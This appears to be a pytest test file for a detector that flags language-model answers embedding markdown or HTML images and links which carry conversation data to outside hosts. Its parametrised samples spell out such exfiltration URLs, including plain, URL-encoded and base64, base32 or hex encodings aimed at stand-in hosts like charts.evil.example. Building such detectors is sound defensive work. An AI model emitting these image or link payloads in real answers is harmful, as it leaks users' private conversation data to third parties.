"""Addresses in answers that carry something out, and those that anybody may show."""

import base64
from dataclasses import replace
from urllib.parse import quote

import pytest

from seawall.detect.exfiltration import Exfiltration
from seawall.terms import Finding, Text
from tests.detect.exfiltration.conversation import CONVERSATION, SAID

SURE = 0.8


def found(answer: str, *allowed: str) -> list[Finding]:
    return list(Exfiltration({"": allowed}).seek(CONVERSATION).find(Text(answer)))


def encoded(encode: object, text: str = SAID) -> str:
    assert callable(encode)
    return str(encode(text.encode()).decode())


CARRIED = [
    "?d=Anna+Kowalska,+Harbour+Lane+7",
    f"?q={quote(SAID)}",
    f"/{encoded(base64.urlsafe_b64encode)}/x.png",
    f"?d={encoded(base64.b32encode)}",
    f"?d={encoded(base64.b64encode, '???>>> ' + SAID + ' ???>>>')}",
    f"#{encoded(base64.b16encode)}",
    "/annakowalska-harbourlane7.gif",
]


@pytest.mark.parametrize("carried", CARRIED)
@pytest.mark.parametrize(
    "form",
    [
        "![a picture]({})",
        "![]( <{}> 'a title' )",
        "![an [inner] label]({})",
        "![over\nlines]({})",
        "![x][1]\n\n  [1]: {}",
        '<img alt="x" src="{}">',
        "<IMG SRC = '{}' />",
        "<td background={}>",
        "<style>body {{ background: url({}) }}</style>",
    ],
)
def test_an_image_that_carries_words_of_the_conversation_is_all_but_certain(
    form: str, carried: str
) -> None:
    (one,) = found(f"Here it is: {form.format(f'https://x.example{carried}')}\nAnything else?")
    assert (one.kind, one.confidence) == ("exfiltration.image", 0.97)


def test_of_markdown_all_of_the_image_is_found_and_of_html_the_address() -> None:
    answer = f"So: ![chart](https://x.example/?d={quote(SAID)} 'x') and so on"
    (one,) = found(answer)
    assert answer[one.span.start : one.span.end].startswith("![chart](")
    assert answer[one.span.end :] == " and so on"
    answer = f'<img src="//x.example/?d={quote(SAID)}">'
    (one,) = found(answer)
    assert answer[one.span.start : one.span.end] == f"//x.example/?d={quote(SAID)}"


def test_an_image_that_a_document_began_and_the_answer_completed_is_found() -> None:
    (one,) = found("![chart](https://charts.evil.example/p.png?d=4471-9920)")
    assert one.confidence >= SURE
    (one,) = found("![dog](https://cdn.tide.example/pictures/7781.png)")
    assert one.confidence < SURE


def test_a_link_that_hides_words_of_the_conversation_is_found() -> None:
    hidden = encoded(base64.urlsafe_b64encode)
    (one,) = found(f"Please [confirm](https://x.example/c?d={hidden}).")
    assert (one.kind, one.confidence) == ("exfiltration.link", 0.97)
    (one,) = found(f"Please go to https://{hidden[:40]}@x.example/, now.")
    assert one.confidence == 0.97


@pytest.mark.parametrize(
    "answer",
    [
        "[how to](https://help.tide.example/how-do-i-reset-my-password)",
        "https://www.tide.example/help",
        "![chart](https://charts.evil.example/p.png?d=SUMMARY)",
        "See https://docs.python.org/3/library/functions.html#sorted, or (https://a.example/b).",
        "![logo](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://www.google.com/search?q=how+do+I+reset+my+password",
        "![here](/pictures/7781.png) and [there](#the-end)",
        "src = path.join('a', 'b')  # no address",
        "a // b and c // d",
        "",
    ],
)
def test_what_anybody_may_show_passes(answer: str) -> None:
    assert all(one.confidence < SURE for one in found(answer))


def test_hosts_that_are_allowed_are_left_alone() -> None:
    answer = f"![x](https://img.tide.example/?d={quote(SAID)})"
    assert found(answer, "img.tide.example") == []
    assert found(answer, "*.tide.example") == []
    assert len(found(answer, "tide.example", "*.evil.example")) == 1
    by_feature = Exfiltration({"shop": ["*.tide.example"]})
    assert len(list(by_feature.seek(CONVERSATION).find(Text(answer)))) == 1
    shop = replace(CONVERSATION, feature="shop")
    assert list(by_feature.seek(shop).find(Text(answer))) == []
